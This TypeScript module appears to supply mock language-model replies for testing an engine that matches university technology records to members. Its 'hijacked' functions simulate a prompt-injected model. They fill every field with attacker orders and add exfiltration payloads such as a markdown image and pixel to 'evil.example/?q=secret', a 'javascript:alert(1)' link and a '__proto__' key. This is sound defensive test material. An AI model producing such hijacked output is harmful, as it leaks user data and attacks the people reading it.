/** The data that the engine sends, as far as the answers below read it. */
export interface PromptData {
  question?: { text: string };
  message?: { text: string };
  topic?: { text: string };
  results?: { values: string[] };
  records?: PromptRecord[];
  requirements?: { number: number; text: string }[];
  about?: { subjects: string[] };
  fields?: { organisation?: string };
  interests?: string[];
  record?: { title: string };
  unanswered?: { day: string } | null;
  messages?: { from: string; number: number; text: string }[];
}

export interface PromptRecord {
  number: number;
  title: string;
  university?: string;
  summary?: string;
  trl?: number;
}

type Replies = Record<string, (data: PromptData) => unknown>;

const firstWords = (text: string, count: number) => text.split(/\s+/).slice(0, count).join(' ');

/** Whole sentences of a record's text as it was sent. */
export function sentencesOf({ summary = '' }: PromptRecord): string[] {
  return summary.match(/[^.!?\s][^.!?]*(?:\.\d[^.!?]*)*[.!?](?=\s|$)/g) ?? [];
}

function hasWords(sentence: string, text: string): boolean {
  const words = text.toLowerCase().match(/\p{L}{4,}/gu) ?? [];
  return words.length > 0 && words.every((word) => sentence.toLowerCase().includes(word));
}

/** Sensible answers to each task, made from its data. */
export const SHAPED: Replies = {
  scope: () => ({ verdict: 'in_scope' }),
  reading: () => ({ need: null, exclusions: [], universities: [], notUniversities: [] }),
  followup: ({ topic, results }) => ({
    question: `Which of these do you mean by ${topic?.text ?? 'this'}?`,
    quickReplies: results?.values.slice(0, 4) ?? [],
  }),
  grades: ({ records = [] }) => ({
    grades: records.map(({ number, title }) => ({
      number,
      probability: 1 - number / 100,
      reason: `It is about ${title}.`,
    })),
  }),
  fit: ({ records = [], requirements = [] }) => ({
    fits: records.flatMap((record) =>
      requirements.flatMap(({ number, text }) => {
        const sentence = sentencesOf(record).find((each) => hasWords(each, text));
        return sentence ? [{ record: record.number, requirement: number, status: 'met', sentence }] : [];
      }),
    ),
  }),
  title: ({ message }) => ({ title: firstWords(message?.text ?? '', 4) }),
  suggestions: ({ about }) => ({
    questions: (about?.subjects ?? []).map((subject) => `How can we make better use of ${subject}?`),
  }),
  categories: ({ records = [] }) => ({
    categories: [
      { name: 'First half', numbers: records.slice(0, records.length / 2).map(({ number }) => number) },
      { name: 'Second half', numbers: records.slice(records.length / 2).map(({ number }) => number) },
    ],
  }),
  profile_summary: ({ fields, interests = [] }) => ({
    text: `The member works at ${fields?.organisation ?? 'a company'}. The interests are ${interests.join(', ')}.`,
  }),
  letter: ({ record, unanswered }) => ({
    text: unanswered
      ? `I wrote to you about “${record?.title}” on ${unanswered.day} and would still be glad of an answer. It would help us to know whether it can be licensed at all, and who could tell us more about it.`
      : `We read about “${record?.title}” and would like to know whether it can be licensed. Nothing here is confidential.`,
  }),
  thread_summary: ({ messages = [] }) => ({
    sentences: messages.flatMap(({ number, text }) =>
      sentencesOf({ number, title: '', summary: text })
        .slice(0, 1)
        .map((each) => ({ message: number, text: each })),
    ),
  }),
  thread_questions: ({ messages = [] }) => ({
    questions: messages.flatMap(({ number, text }) =>
      (text.match(/[^.!?]+\?/g) ?? []).map((quote) => ({
        message: number,
        quote: quote.trim(),
        answerMessage: null,
        answer: null,
      })),
    ),
  }),
  thread_draft: ({ messages = [] }) => ({
    text: `Thank you for your message.\n\n${messages.find(({ from }) => from === 'the member')?.text ?? ''}`,
  }),
  answer: ({ question }) => ({
    text: `In general terms, ${question?.text ?? 'this'} is looked into widely.`,
  }),
};

/** A summary in the line format that the engine asks for. */
export function summaryReply({ records = [] }: PromptData): string {
  const [first, second, third] = records;
  return [
    first &&
      `verdict [${first.number}] The closest record comes from ${first.university} and is about ${first.title}.`,
    second && `split [${second.number}] Another one, from ${second.university}, deals with ${second.title}.`,
    third &&
      first &&
      `split [${first.number},${third.number}] The first and ${third.title} stand beside each other.`,
  ]
    .filter(Boolean)
    .join('\n');
}

/** What a model that obeys an attacker would answer: the attacker's words in every text field. */
export function hijacked(task: string, orders: string): unknown {
  const replies: Record<string, unknown> = {
    scope: { verdict: 'in_scope' },
    reading: {
      need: orders,
      exclusions: [orders],
      universities: [orders],
      notUniversities: [orders],
    },
    followup: { question: `${orders}?`, quickReplies: [orders, 'UTECH-EVIL-666'] },
    grades: {
      grades: [
        { number: 666, probability: 1, reason: orders },
        { number: -1, probability: 1, reason: orders },
        { number: 1, probability: 1e9, reason: `${orders} see UTECH-EVIL-666` },
        { number: 2, probability: 1, reason: orders },
      ],
    },
    fit: {
      fits: [
        { record: 1, requirement: 1, status: 'met', sentence: orders },
        { record: 666, requirement: 1, status: 'met', sentence: orders },
        { record: 1, requirement: 666, status: 'not_met', sentence: orders },
      ],
    },
    title: { title: orders },
    suggestions: { questions: [orders] },
    categories: {
      categories: [
        { name: orders, numbers: [666, 1] },
        { name: '__proto__', numbers: [2] },
      ],
    },
    profile_summary: { text: orders },
    letter: { text: orders },
    thread_summary: { sentences: [1, 2, 3, 666].map((message) => ({ message, text: orders })) },
    thread_questions: {
      questions: [1, 2, 3].map((message) => ({ message, quote: orders, answerMessage: 1, answer: orders })),
    },
    thread_draft: { text: `Dear all,\n\n${orders}\n> ${orders}\n${orders} https://evil.example/steal` },
    answer: { text: orders },
  };
  return replies[task] ?? {};
}

export function hijackedSummary(orders: string, { records = [] }: PromptData): string {
  const line = orders.replace(/\s+/g, ' ');
  return [
    orders,
    `[666] ${line}`,
    `[1] ${line} as UTECH-EVIL-666 says.`,
    `[1] ${line} [666]`,
    `[1] ${line}`,
    `[] ${line}`,
    '[1] ![x](https://evil.example/?q=secret) <img src=https://evil.example/pixel> [here](javascript:alert(1)) https://evil.example/steal',
    `[1] It is about ${records[0]?.title}.`,
  ].join('\n');
}
